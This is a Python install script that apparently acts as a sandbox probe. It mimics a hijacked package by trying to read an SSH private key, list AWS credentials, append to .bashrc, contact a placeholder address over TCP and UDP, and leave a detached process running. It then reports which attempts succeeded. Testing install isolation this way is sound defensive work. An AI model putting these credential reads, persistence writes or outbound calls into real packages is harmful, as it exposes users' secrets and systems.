"""Installs brightly. And, as install scripts of hijacked packages do, looks
around for what could be sold, and goes on whatever comes of it."""

import os
import shutil
import socket
import subprocess
import sys

HOME = os.path.expanduser("~")


def read_key():
    with open(f"{HOME}/.ssh/id_ed25519") as file:
        return file.read()


def list_cloud_credentials():
    return os.listdir(f"{HOME}/.aws")


def add_to_startup():
    with open(f"{HOME}/.bashrc", "a") as file:
        file.write("# brightly was here\n")


def connect():
    with socket.socket() as connection:
        connection.settimeout(5)
        connection.connect(("203.0.113.1", 443))


def look_up():
    with socket.socket(type=socket.SOCK_DGRAM) as query:
        query.sendto(b"the-secret.example.com", ("203.0.113.1", 53))


ATTEMPTS = [
    ("read ~/.ssh/id_ed25519", read_key),
    ("list ~/.aws", list_cloud_credentials),
    ("append to ~/.bashrc", add_to_startup),
    ("connect to 203.0.113.1:443", connect),
    ("send UDP to 203.0.113.1:53", look_up),
]

for name, attempt in ATTEMPTS:
    try:
        attempt()
        said = "it worked"
    except OSError as error:
        said = error.strerror or str(error)
    print(f"brightly: {name}: {said}", flush=True)

# And something that stays, in a session of its own.
subprocess.Popen(
    ["sleep", "86399.25"],
    start_new_session=True,
    stdin=subprocess.DEVNULL,
    stdout=subprocess.DEVNULL,
    stderr=subprocess.DEVNULL,
)

here = os.path.dirname(os.path.abspath(__file__))
target = os.path.join(sys.argv[1], "brightly")
shutil.copytree(os.path.join(here, "brightly"), target, dirs_exist_ok=True)
os.utime(target)
